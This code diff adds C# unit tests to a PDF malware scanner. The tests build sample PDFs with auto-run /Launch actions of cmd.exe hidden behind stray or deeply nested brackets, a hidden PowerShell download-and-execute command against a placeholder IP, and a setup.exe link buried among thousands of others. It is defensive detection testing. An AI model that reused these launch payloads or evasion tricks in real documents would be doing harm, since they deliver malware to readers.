@@ -115,4 +115,38 @@ public sealed class PdfStageTests
         outcome.Indicators.Should().Contain(indicator => indicator.Value == "https://host.invalid/x");
         outcome.Artifacts[0].Facts["pdf-actions"]["keywords"]!["URI"]!.GetValue<int>().Should().Be(2);
     }
+
+    [Theory]
+    [InlineData("<< /X ] /S /Launch /F (cmd.exe) >>")]
+    [InlineData("<< /X ) /Y } /Z > /S /Launch /F (cmd.exe) >>")]
+    public async Task A_bracket_that_closes_nothing_hides_no_action(string action) =>
+        (await DocumentScans.FindingsAsync(new PdfBuilder().Catalogue("/OpenAction 5 0 R").Add(5, action).Build())).Should().Contain("pdf.launch_auto");
+
+    [Fact]
+    public async Task A_value_that_is_nested_too_deep_hides_no_action_behind_it_and_is_a_gap()
+    {
+        var outcome = await DocumentScans.ScanAsync(new PdfBuilder().Catalogue("/OpenAction 5 0 R").Add(5, $"<< /X {new string('[', 90)}<< /A (]) /B <5D> >>{new string(']', 90)} /S /Launch /F (cmd.exe) >>").Build());
+
+        outcome.Findings.Select(finding => finding.Id).Should().Contain("pdf.launch_auto");
+        outcome.Gaps.Should().Contain(gap => gap.Stage == "pdf-actions").And.Contain(gap => gap.Stage == "pdf");
+    }
+
+    [Fact]
+    public async Task Of_several_programs_that_a_document_starts_each_is_judged()
+    {
+        var file = new PdfBuilder().Add(5, "<< /S /Launch /F (readme.txt) >>").Add(6, "<< /S /Launch /Win << /F (cmd.exe) /P (/c powershell -w hidden -c iex\\(irm http://192.0.2.1/a\\)) >> >>").Build();
+
+        (await DocumentScans.FindingsAsync(file)).Should().Contain(["pdf.launch", "ps.iex_download"]);
+    }
+
+    [Fact]
+    public async Task A_link_behind_thousands_of_others_is_judged()
+    {
+        var file = new PdfBuilder().Add(5, $"[{string.Concat(Enumerable.Range(0, 3000).Select(number => $"<< /S /URI /URI (https://host.invalid/{number}) >>"))}<< /S /URI /URI (http://host.invalid/setup.exe) >>]").Build();
+
+        var outcome = await DocumentScans.ScanAsync(file);
+
+        outcome.Findings.Select(finding => finding.Id).Should().Contain("pdf.uri_danger");
+        outcome.Gaps.Should().NotContain(gap => gap.Stage == "pdf-actions");
+    }
 }
